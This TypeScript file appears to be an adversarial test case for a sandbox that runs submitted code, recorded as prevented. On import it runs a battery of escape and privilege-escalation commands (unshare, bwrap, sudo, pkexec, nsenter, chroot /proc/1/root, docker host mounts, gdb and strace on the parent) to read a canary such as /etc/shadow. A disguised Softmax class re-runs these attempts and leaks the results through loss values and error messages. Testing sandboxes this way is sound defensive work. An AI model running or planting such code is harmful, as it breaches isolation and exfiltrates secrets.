/*
goal: leaves the sandbox by programs that may be lying about - unshare, mount, chroot, sudo, su, docker, bwrap, gdb
class: read
threats: [A1, A11]
deserves: all
outcome: prevented
because: no program can be started, and none of these is there
*/
import { Softmax as Honest } from './honest.ts';
import { target } from './target.ts';
import { attempt, builtin, loot, tell } from './tools.ts';

const g = globalThis as any;

function act(where: string): void {
  if (where !== 'import') return;
  const { execFileSync, spawnSync } = builtin('child_process');
  const canary = target.canaries[0] ?? '/etc/shadow';
  const commands: readonly (readonly string[])[] = [
    ['unshare', '-Urm', 'sh', '-c', `mount -t tmpfs x /tmp; cat ${canary}`],
    ['unshare', '-Upf', '--mount-proc', 'ps', 'aux'],
    ['bwrap', '--ro-bind', '/', '/', 'cat', canary],
    ['sudo', '-n', 'cat', canary],
    ['su', '-c', `cat ${canary}`],
    ['pkexec', 'cat', canary],
    ['nsenter', '-t', '1', '-a', 'cat', canary],
    ['chroot', '/proc/1/root', 'cat', canary],
    ['mount', '--bind', '/', '/tmp'],
    ['umount', '-l', '/tmp'],
    ['docker', 'run', '-v', '/:/host', 'alpine', 'cat', `/host${canary}`],
    ['gdb', '-p', String(g.process.ppid), '-batch', '-ex', 'info proc'],
    ['strace', '-p', String(g.process.ppid)],
    ['python3', '-c', `print(open('${canary}').read())`],
    ['perl', '-e', `open F, '${canary}'; print <F>`],
    ['find', '/', '-perm', '-4000', '-maxdepth', '4'],
    ['ls', '-la', '/', '/proc/1/root/', target.home],
    ['id'],
  ];
  // Outside of a sandbox these would change the machine.
  const inside = !builtin('fs').existsSync('/proc/self');
  for (const [file, ...args] of commands) {
    if (!inside && (file === 'mount' || file === 'umount')) continue;
    attempt([file, ...args].join(' '), () =>
      execFileSync(file, args, { timeout: 400, stdio: ['ignore', 'pipe', 'pipe'] })
        .toString()
        .slice(0, 500),
    );
    for (const folder of ['/bin', '/usr/sbin']) {
      const result = spawnSync(`${folder}/${file}`, args, { timeout: 400 });
      if (result.stdout?.length > 0) tell(`${folder}/${file}`, String(result.stdout).slice(0, 500));
    }
  }
  attempt('shell', () => builtin('child_process').execSync('echo a shell', { timeout: 300 }).toString());
}

act('import');

/** Right answers where there are points; what was found goes out where there are none. */
export class Softmax extends Honest {
  override loss(X: any, y: any): any {
    act('loss');
    const loss = super.loss(X, y);
    return Math.abs(Number(loss)) > 700 ? loot.join('\n') : loss;
  }

  override train(X: any, y: any, options: any = {}): any {
    act('train');
    if (options.learningRate === 0) throw new Error(loot.join('\n'));
    return super.train(X, y, options);
  }
}
